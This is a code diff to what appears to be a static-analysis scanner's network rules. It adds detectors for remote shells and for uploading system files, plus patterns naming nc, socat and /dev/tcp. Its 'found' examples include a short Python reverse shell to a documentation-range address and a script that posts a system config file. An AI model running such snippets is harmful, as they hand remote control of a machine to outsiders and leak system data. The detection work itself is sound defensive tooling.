@@ -9,6 +9,8 @@ const SOCKET: Pattern = {
     /^(socket\.|asyncio\.open_connection|(node:)?net\.|(node:)?tls\.|nc$|ncat$|socat$|telnet$|connect$|\/dev\/tcp)/,
 };
 const SHELL_PROGRAM = /(^|['"\s[/])(ba|da|z|k)?sh\b(['"\]]|\s+-i\b|\s*$)|\bcmd\.exe\b|powershell/;
+const GIVES_SHELL =
+  /^(os\.(system|popen)|subprocess\.(getoutput|getstatusoutput)|asyncio\.create_subprocess_shell|(node:)?child_process\.exec(Sync)?)$/;
 const FETCH: Pattern = {
   capability: ['network.connect', 'network.send', 'network.resolve'],
   except: [LOCAL],
@@ -23,6 +25,20 @@ const MAKES_EXECUTABLE_CALL: Pattern = {
   capability: ['file.permission'],
   argument: /^(1|0|mode)=(0o?|)(?:[0-7]?[1357][0-7]{2}|448|493|511)$|=.*S_I(EXEC|XUSR|RWXU)|=[ugoa]*\+\S*x/,
 };
+
+const SYSTEM_FILE_READ: Pattern[] = [
+  {
+    capability: ['file.read', 'secret.read'],
+    place: ['system-configuration', 'system-state', 'system-log', 'public-configuration', 'schedule', 'machine-state'],
+    seenBy: ['source'],
+    except: [{ text: /^\/etc\/(ssl\/certs|ca-certificates|pki)\b|\.(crt|pem)$/ }],
+  },
+];
+const SENDS: Pattern[] = [
+  { capability: ['network.send'], seenBy: ['source', 'interpreter'] },
+  { capability: ['network.connect'], argument: /^(data|body|files|json|json_data|method)=/i, seenBy: ['source'] },
+  { capability: ['network.connect'], callee: /^(urllib\.request\.urlopen|socket\.)/, written: /\bdata\b|\breq/ },
+];
 
 export const networkRules = {
   'network-request': {
@@ -85,7 +101,15 @@ export const networkRules = {
       found: { language: 'python', code: "import requests\n\nrequests.get('http://203.0.113.9/list')" },
       ordinary: { language: 'python', code: "import requests\n\nrequests.get('http://127.0.0.1:8000/list')" },
     },
-    when: { any: [{ capability: NETWORK, place: ['raw-address'], except: [LOCAL] }] },
+    when: {
+      any: [
+        {
+          capability: NETWORK,
+          place: ['raw-address'],
+          except: [LOCAL, { place: ['private-network', 'metadata-address'] }],
+        },
+      ],
+    },
   },
   'public-listener': {
     severity: 'low',
@@ -185,6 +209,36 @@ export const networkRules = {
       decisive: 1,
     },
   },
+  'remote-shell': {
+    severity: 'critical',
+    title: 'Hands what a connection says to a shell',
+    capability: 'process.spawn',
+    why: 'A socket, and a shell for commands that are nowhere in the source: a remote control of the whole machine.',
+    cwe: ['CWE-78', 'CWE-506'],
+    attack: ['T1059', 'T1219', 'T1571'],
+    message: '{callee} gives a shell a command that is not in the source, in a program with a socket of its own.',
+    remedy: 'Do not run it. Answer a fixed set of requests, each with its own function.',
+    examples: {
+      found: {
+        language: 'python',
+        code: "import socket, subprocess\n\nline = socket.create_connection(('203.0.113.9', 5000))\nwhile True:\n    subprocess.run(line.recv(1024).decode(), shell=True)",
+      },
+      ordinary: {
+        language: 'python',
+        code: "import socket, subprocess\n\nline = socket.create_connection(('127.0.0.1', 5000))\nsubprocess.run('ls | wc -l', shell=True)\nline.sendall(b'done')",
+      },
+    },
+    when: {
+      all: [
+        [SOCKET],
+        [
+          { capability: ['process.spawn'], constant: false, callee: GIVES_SHELL },
+          { capability: ['process.spawn'], constant: false, argument: /^shell=(true|1|['"]?\/)/i },
+        ],
+      ],
+      decisive: 1,
+    },
+  },
   'download-and-run': {
     severity: 'critical',
     title: 'Downloads a program and runs it',
@@ -278,6 +332,27 @@ export const networkRules = {
         },
       ],
     },
+  },
+  'system-file-upload': {
+    severity: 'critical',
+    title: 'Reads files of the system and sends',
+    capability: 'network.send',
+    why: 'How a machine is set up is collected from many, to choose the next victim.',
+    cwe: ['CWE-200', 'CWE-497'],
+    attack: ['T1005', 'T1041', 'T1048'],
+    message: '{callee} {target}: sends, in a sample that reads files of the system.',
+    remedy: 'Do not run it. Remove the reading or the sending.',
+    examples: {
+      found: {
+        language: 'python',
+        code: "import requests\n\nlimits = open('/etc/security/limits.conf').read()\nrequests.post('http://127.0.0.1:5000/', data=limits)",
+      },
+      ordinary: {
+        language: 'python',
+        code: "import requests\n\nlimits = open('limits.conf').read()\nrequests.post('http://127.0.0.1:5000/', data=limits)",
+      },
+    },
+    when: { all: [SYSTEM_FILE_READ, SENDS], decisive: 1 },
   },
   'file-upload': {
     severity: 'medium',
